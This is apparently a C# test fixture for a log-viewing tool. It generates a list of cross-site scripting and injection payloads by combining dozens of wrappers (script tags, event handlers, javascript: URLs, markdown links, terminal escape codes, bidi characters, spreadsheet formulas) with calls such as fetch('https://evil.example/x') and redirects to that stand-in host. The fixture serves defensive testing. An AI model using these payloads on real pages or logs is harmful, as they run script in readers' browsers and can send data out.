namespace Culprit.Dossier.Tests.MadeUp;

/// <summary>Texts that an intruder might write into a log in order to act upon who reads it.</summary>
internal static class Payloads
{
    private static readonly string[] Calls = ["alert(1)", "window.__ran=1", "fetch('https://evil.example/x')", "document.title='ran'", "top.location='https://evil.example/'"];

    private static readonly string[] Around =
    [
        "<script>{0}</script>", "<SCRIPT SRC=https://evil.example/x.js>{0}</SCRIPT>", "<img src=x onerror=\"{0}\">", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
        "\"><script>{0}</script>", "'><img src=x onerror={0}>", "</style><script>{0}</script>", "</title><script>{0}</script>", "</bdi></details><script>{0}</script>",
        "--><script>{0}</script>", "<![CDATA[<script>{0}</script>]]>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe src=\"javascript:{0}\">", "<a href=\"javascript:{0}\">x</a>",
        "<body onload={0}>", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<video><source onerror={0}>", "<math><mtext></table><mglyph><style><img src=x onerror={0}>",
        "<object data=\"javascript:{0}\">", "<embed src=\"javascript:{0}\">", "<form action=\"javascript:{0}\"><input type=submit autofocus>", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "<base href=\"https://evil.example/\"><script>{0}</script>", "<link rel=stylesheet href=https://evil.example/{0}>", "<marquee onstart={0}>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to={0}>", "<svg><foreignObject><body onload={0}></foreignObject></svg>", "<x onmouseover={0} style=position:fixed;inset:0>", "<style>@import 'https://evil.example/{0}';</style>",
        "<div style=\"background:url(https://evil.example/{0})\">", "[click](javascript:{0})", "![x](https://evil.example/{0})", "<https://evil.example/{0}>", "[x]: javascript:{0}", "`{0}`", "${{{0}}}",
        "{{{{constructor.constructor('{0}')()}}}}", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}&#60;/script&#62;", "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}", "+ADw-script+AD4-{0}",
        "\u001b]8;;https://evil.example/{0}\u001b\\link\u001b]8;;\u001b\\", "\u001b[31m{0}\u001b[0m\u001b[2J", "\u202e{0}\u202c", "\u2066{0}\u2069\u200f", "\0<script>{0}</script>\0", "<scr\0ipt>{0}</scr\0ipt>",
        "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<template><script>{0}</script></template>", "<textarea autofocus onfocus={0}>", "<select onfocus={0} autofocus>", "<!--<img src=\"--><img src=x onerror={0}>\">",
        "<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><script>{0}</script>", "=HYPERLINK(\"https://evil.example/{0}\")", "<portal src=https://evil.example/{0}>", "\ud800<script>{0}</script>\udfff",
        "<p id=content name=i1-e0><script>{0}</script>", "<a id=i1-s1 href=https://evil.example/{0}>x</a>",
    ];

    /// <summary>All of them.</summary>
    public static string[] All { get; } = [.. Around.SelectMany(around => Calls.Select(call => around.Replace("{0}", call, StringComparison.Ordinal)))];
}
